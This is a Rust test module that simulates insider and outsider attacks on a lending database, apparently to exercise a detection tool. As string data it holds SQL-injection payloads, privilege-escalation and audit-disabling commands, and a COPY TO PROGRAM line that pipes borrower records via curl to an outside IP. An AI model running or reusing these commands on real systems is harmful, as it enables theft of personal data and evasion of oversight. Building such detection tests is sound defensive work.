//! What the attackers of attacks.toml do: the same acts as everybody's, by those who should not.

use super::act::{BORROWERS, Class, Day, Seat, Statement, borrower, seat};
use super::calendar::{HOUR, MINUTE, SECOND, at, is_worked};
use super::machines::{dump, dump_tool, reporting};
use super::office::{self, Pool, call, collector, look};
use super::server::Server;
use crate::support::root;
use serde::Deserialize;
use std::sync::Arc;

/// A row of attacks.toml.
#[derive(Clone, Debug, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Attack {
    pub name: String,
    pub what: String,
    /// Role of the incident; empty: any.
    #[serde(default)]
    pub role: String,
    /// Person behind a shared role; empty: any.
    #[serde(default)]
    pub person: String,
    /// Client that must be among those of the incident; empty: any.
    #[serde(default)]
    pub client: String,
    /// Store of the incident that finds it; empty: any.
    #[serde(default)]
    pub store: String,
    pub day: usize,
    pub hour: u32,
    #[serde(default = "one")]
    pub days: usize,
    /// Minutes from the beginning.
    pub within: i64,
    #[serde(default)]
    pub kinds: Vec<String>,
    #[serde(default)]
    servers: Vec<String>,
}

fn one() -> usize {
    1
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct Table {
    attack: Vec<Attack>,
}

impl Attack {
    /// Attacks that can be made on a server.
    pub fn all(server: Server) -> Vec<Attack> {
        let text = std::fs::read_to_string(root().join("tests/simulation/attacks.toml")).expect("attacks.toml");
        let table: Table = toml::from_str(&text).unwrap_or_else(|error| panic!("attacks.toml: {error}"));
        let here = |attack: &Attack| attack.servers.is_empty() || attack.servers.iter().any(|one| one == server.name());
        table.attack.into_iter().filter(here).collect()
    }

    /// The same on another day.
    pub fn on(self, day: usize) -> Attack {
        Attack { day, ..self }
    }

    /// When it begins.
    pub fn begins(&self) -> i64 {
        at(self.day, self.hour, 0)
    }

    /// When it is over.
    pub fn ends(&self) -> i64 {
        if self.days == 1 { self.begins() + HOUR } else { at(self.day + self.days, 0, 0) }
    }

    /// Adds what happens of it on `day`.
    pub fn play(&self, day: &mut Day, pool: &Pool, server: Server) {
        if !(self.day..self.day + self.days).contains(&day.number) {
            return;
        }
        let begins = at(day.number, self.hour, 0);
        match self.name.as_str() {
            "enumeration_fast" => opens(day, pool, &self.person, begins, 300, 2 * SECOND),
            "enumeration_at_night" => night(day, pool, self),
            "enumeration_by_day" if is_worked(day.number) => {
                opens(day, pool, &self.person, begins + 30 * MINUTE, 180, 3 * MINUTE);
            }
            "guessed_numbers" => guesses(day, pool, &self.person, begins),
            "canary_touched" => {
                let session = pool.any(day);
                let nobody = kuzet_detect::reserved_iin(&super::run::key(), 5);
                let text = "SELECT id, iin, full_name, phone, address FROM borrowers WHERE iin = $1";
                let look = Statement::read(text, &["borrowers"], 1).with(nobody).tagged(&self.person);
                day.say(begins, &session, look);
            }
            "injection" => injection(day, pool, begins),
            "credential_stuffing" => stuffing(day, self, begins),
            "dump_over_a_fortnight" if is_worked(day.number) => fortnight(day, self, begins),
            "dump_over_a_night" => pages(day, self),
            "insider_leaving" | "enumeration_by_day" | "dump_over_a_fortnight" => {}
            "out_of_hours" => {
                let session = day.open(begins, &collector(&self.person));
                for number in 0..40 {
                    call(day, &session, begins + number * MINUTE, 4_000 + number as usize);
                }
                day.close(begins + 50 * MINUTE, &session);
            }
            "records_cut_out" => {
                let session = day.open(begins, &office::analyst(&self.role, day.number, 77));
                let count = || Statement::read("SELECT count(*) FROM loans", &["loans"], 1);
                day.say(begins + SECOND, &session, count());
                day.cut(begins + MINUTE, &session, 12);
                day.say(begins + 2 * MINUTE, &session, count());
                day.close(begins + 3 * MINUTE, &session);
            }
            name => {
                let (seat, acts) = self.visit(name, day.number, server);
                day.visit(begins, &seat, acts);
            }
        }
    }

    /// How many times the usual `person` does on `day`.
    pub fn factor(&self, person: &str, day: usize) -> u64 {
        let his = self.name == "insider_leaving" && self.person == person;
        if his && (self.day..self.day + self.days).contains(&day) { 3 } else { 1 }
    }

    /// Attacks of one session.
    fn visit(&self, name: &str, day: usize, server: Server) -> (Arc<Seat>, Vec<Statement>) {
        let all: &'static [&'static str] = &["borrowers"];
        let people = |text: &str, rows| Statement::read(text, all, rows);
        let copy = |text: &str, rows| Statement { command: "COPY", ..Statement::read(text, all, rows) };
        let analyst = office::analyst(&self.role, day, 9);
        let psql = |client| seat(&self.role, "psql", client);
        let outfile = "SELECT * FROM borrowers INTO OUTFILE '/tmp/b.csv'";
        let mariadb = server.is_mariadb();
        match name {
            "bulk_select" => (analyst, vec![people("SELECT * FROM borrowers", 10_000)]),
            "copy_out" if mariadb => (psql("10.1.2.21"), vec![people(outfile, 10_000)]),
            "copy_out" => (psql("10.1.2.21"), vec![copy("COPY borrowers TO STDOUT", 10_000)]),
            "dump_at_noon" => (seat("backup", dump_tool(server), "10.1.2.40"), dump(server)),
            "dump_from_elsewhere" => (seat("backup", dump_tool(server), "10.1.2.41"), dump(server)),
            "escalation" if mariadb => {
                let grant = "GRANT ALL PRIVILEGES ON *.* TO analyst_bek@'%' WITH GRANT OPTION";
                (psql("10.1.9.5"), vec![Statement::role("GRANT", grant)])
            }
            "escalation" => (psql("10.1.9.5"), vec![Statement::role("ALTER ROLE", "ALTER ROLE analyst_bek SUPERUSER")]),
            "audit_switched_off" if mariadb => {
                (psql("10.1.9.5"), vec![Statement::define("SET", "SET GLOBAL server_audit_logging=OFF")])
            }
            "audit_switched_off" => {
                let off = Statement::define("ALTER SYSTEM", "ALTER SYSTEM SET pgaudit.log='none'");
                (psql("10.1.9.5"), vec![off, Statement::read("SELECT pg_reload_conf()", &[], 1)])
            }
            "packed_into_one_row" if mariadb => (analyst, vec![people("SELECT JSON_ARRAYAGG(iin) FROM borrowers", 1)]),
            "packed_into_one_row" => (analyst, vec![people("SELECT json_agg(b) FROM borrowers b", 1)]),
            "mass_delete" => {
                let delete = "DELETE FROM payments WHERE paid_at < '2026-01-01'";
                (seat("deploy", "flyway", "10.1.0.60"), vec![Statement::write("DELETE", delete, &["payments"], 42_000)])
            }
            "copy_to_program" => {
                let text = "COPY borrowers TO PROGRAM 'curl -T - http://198.51.100.7/'";
                (psql("10.1.9.5"), vec![copy(text, 10_000)])
            }
            "copy_then_export" => {
                let make = "CREATE TEMPORARY TABLE mine AS SELECT iin, full_name, phone FROM borrowers";
                let make = Statement { class: Class::Read, command: "CREATE TABLE AS", ..people(make, 10_000) };
                let take = if mariadb {
                    Statement::read("SELECT * FROM mine", &["mine"], 10_000)
                } else {
                    Statement { command: "COPY", ..Statement::read("COPY mine TO STDOUT", &["mine"], 10_000) }
                };
                (analyst, vec![make, take])
            }
            "service_account_by_hand" => (
                psql("10.1.2.33"),
                vec![people("SELECT iin, full_name, phone FROM borrowers WHERE salary > 900000 LIMIT 30", 30)],
            ),
            "account_that_slept" => {
                let text = "SELECT iin, full_name, phone FROM borrowers WHERE address LIKE 'Алматы%' LIMIT 50";
                (seat("analyst_old", "DBeaver 7.1.0 - Main", "10.1.2.60"), vec![people(text, 50)])
            }
            "cursor" => {
                let text = "DECLARE c CURSOR FOR SELECT * FROM borrowers";
                (psql("10.1.2.22"), vec![Statement { command: "DECLARE CURSOR", ..people(text, 10_000) }])
            }
            "new_network" => {
                let text = "SELECT iin, full_name, salary FROM borrowers ORDER BY salary DESC LIMIT 100";
                (seat("analyst_aru", "DBeaver 23.3.1 - Main", "203.0.113.9"), vec![people(text, 100)])
            }
            other => panic!("attacks.toml: nobody knows how to do {other}"),
        }
    }
}

/// A clerk opens one client after the other.
fn opens(day: &mut Day, pool: &Pool, clerk: &str, from: i64, count: i64, step: i64) {
    for number in 0..count {
        let now = from + number * step + day.random.below(step.unsigned_abs() / 2) as i64;
        let who = day.random.below(BORROWERS as u64) as usize;
        let session = pool.any(day);
        day.say(now, &session, look(who, clerk, day.number > office::RELEASE));
    }
}

/// Three nights from half past ten in the evening to five in the morning.
fn night(day: &mut Day, pool: &Pool, attack: &Attack) {
    if day.number > attack.day {
        opens(day, pool, &attack.person, at(day.number, 0, 0) + MINUTE, 99, 3 * MINUTE);
    }
    if day.number + 1 < attack.day + attack.days {
        opens(day, pool, &attack.person, at(day.number, 22, 30), 29, 3 * MINUTE);
    }
}

fn guesses(day: &mut Day, pool: &Pool, clerk: &str, from: i64) {
    for number in 0..40 {
        let session = pool.any(day);
        let iin = format!("900101300{number:03}");
        let text = "SELECT id, iin, full_name, phone, address FROM borrowers WHERE iin = $1";
        let guess = Statement::read(text, &["borrowers"], 0).with(iin).tagged(clerk);
        day.say(from + number * 20 * SECOND, &session, guess);
    }
}

fn injection(day: &mut Day, pool: &Pool, from: i64) {
    let session = pool.any(day);
    let texts = [
        ("SELECT id, status FROM loans WHERE borrower_id = '1' OR 1=1 --'", &["loans"][..], 24_000),
        (
            "SELECT id, status FROM loans WHERE borrower_id = '1' UNION SELECT id, concat(iin, full_name) FROM borrowers --'",
            &["loans", "borrowers"][..],
            10_000,
        ),
        (
            "SELECT id, status FROM loans WHERE borrower_id = '1' UNION SELECT 1, table_name FROM information_schema.tables --'",
            &["loans"][..],
            90,
        ),
    ];
    for (number, (text, tables, rows)) in (0..).zip(texts) {
        day.say(from + number * 20 * SECOND, &session, Statement::read(text, tables, rows));
    }
}

fn stuffing(day: &mut Day, attack: &Attack, from: i64) {
    const NAMES: [&str; 8] = ["admin", "postgres", "app", "test", "analyst_aru", "root", "accounting", "backup"];
    for number in 0..40 {
        let seat = seat(NAMES[number as usize % NAMES.len()], "", "10.1.7.77");
        day.refused(from + number * 12 * SECOND, &seat);
    }
    assert_eq!(attack.client, "10.1.7.77");
    let count = Statement::read("SELECT count(*) FROM payments", &["payments"], 1);
    day.visit(from + 9 * MINUTE, &seat("accounting", "", "10.1.7.77"), [count]);
}

fn fortnight(day: &mut Day, attack: &Attack, from: i64) {
    let text = "SELECT iin, full_name, phone, iban FROM borrowers WHERE id > $1 ORDER BY id LIMIT 900";
    let page = Statement::read(text, &["borrowers"], 900).with((day.number - attack.day) * 900);
    day.visit(from, &seat("accounting", "1C:Enterprise", "10.1.3.5"), [page]);
}

/// Twenty pages between ten in the evening and six in the morning.
fn pages(day: &mut Day, attack: &Attack) {
    let (from, first, count) =
        if day.number == attack.day { (at(day.number, 22, 0), 0, 5) } else { (at(day.number, 0, 0), 5, 15) };
    let seat = seat(reporting(day.number), "Metabase v0.49.6", "10.1.0.50");
    let session = day.open(from, &seat);
    for page in 0..count {
        let last = borrower((first + page) * 500).id;
        let text = "SELECT id, iin, full_name, phone, salary FROM borrowers WHERE id > $1 ORDER BY id LIMIT 500";
        let now = from + 10 * SECOND + page as i64 * 24 * MINUTE;
        day.say(now, &session, Statement::read(text, &["borrowers"], 500).with(last));
    }
    day.close(from + count as i64 * 25 * MINUTE, &session);
}
